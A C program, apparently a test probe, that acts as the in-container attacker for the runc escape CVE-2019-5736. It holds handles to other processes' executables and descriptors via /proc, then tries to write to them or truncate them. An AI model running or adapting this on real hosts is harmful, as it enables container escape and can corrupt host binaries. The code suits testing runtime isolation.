/* The attacker of CVE-2019-5736, inside the container: keeps a handle of every executable and descriptor that it can see of other
 * processes, and tries to write through each, again and again, also after those processes have ended.
 *
 * Usage: keeper SECONDS
 * Says "keeping" when it begins; "wrote NAME" for what it could write to, but for the files of its own root; at the end how many it had. */
#define _GNU_SOURCE
#include <dirent.h>
#include <errno.h>
#include <fcntl.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <sys/resource.h>
#include <sys/stat.h>
#include <time.h>
#include <unistd.h>

#define MOST 512

static struct { int fd; dev_t device; ino_t inode; char name[256]; } kept[MOST];
static int count, wrote;

/* What has the same name and inode in our own root is ours, and nobody is hurt if we write to it. */
static int ours(const char *name, const struct stat *st)
{
	struct stat here;
	return !stat(name, &here) && here.st_ino == st->st_ino && here.st_dev == st->st_dev;
}

static void keep(const char *path)
{
	char name[256] = "", own[64];
	struct stat st;
	int fd = open(path, O_PATH | O_CLOEXEC);
	if (fd < 0)
		return;
	/* The other process may be gone by now, and its name with it; our own handle stays. */
	snprintf(own, sizeof(own), "/proc/self/fd/%d", fd);
	ssize_t size = readlink(own, name, sizeof(name) - 1);
	name[size > 0 ? size : 0] = 0;
	int known = fstat(fd, &st) || !S_ISREG(st.st_mode) || ours(name, &st) || count == MOST;
	for (int i = 0; i < count && !known; i++)
		known = kept[i].device == st.st_dev && kept[i].inode == st.st_ino;
	if (known) {
		close(fd);
		return;
	}
	kept[count].fd = fd;
	kept[count].device = st.st_dev;
	kept[count].inode = st.st_ino;
	strcpy(kept[count++].name, name);
	printf("kept %s\n", name);
}

static void look_around(void)
{
	char path[300];
	struct dirent *entry;
	DIR *all = opendir("/proc");
	while (all && (entry = readdir(all))) {
		int pid = atoi(entry->d_name);
		if (pid <= 0 || pid == getpid())
			continue;
		snprintf(path, sizeof(path), "/proc/%d/exe", pid);
		keep(path);
		/* The standard ones are given to the container, to be written to. */
		for (int fd = 3; fd < 24; fd++) {
			snprintf(path, sizeof(path), "/proc/%d/fd/%d", pid, fd);
			keep(path);
		}
	}
	if (all)
		closedir(all);
}

static void try_all(void)
{
	char path[64];
	for (int i = 0; i < count; i++) {
		snprintf(path, sizeof(path), "/proc/self/fd/%d", kept[i].fd);
		int fd = open(path, O_RDWR | O_CLOEXEC | O_NONBLOCK);
		if (fd < 0)
			fd = open(path, O_WRONLY | O_CLOEXEC | O_NONBLOCK);
		if (fd >= 0 && (write(fd, "#", 1) == 1 || !ftruncate(fd, 0))) {
			printf("wrote %s\n", kept[i].name);
			wrote++;
		}
		if (fd >= 0)
			close(fd);
	}
}

int main(int argc, char **argv)
{
	struct rlimit most = { 1024, 1024 };
	setrlimit(RLIMIT_NOFILE, &most);
	setvbuf(stdout, NULL, _IOLBF, 0);
	time_t until = time(NULL) + (argc > 1 ? atoi(argv[1]) : 1);
	printf("keeping\n");
	while (time(NULL) <= until) {
		for (int i = 0; i < 20; i++)
			look_around();
		try_all();
	}
	printf("kept %d, wrote %d\n", count, wrote);
	return wrote != 0;
}
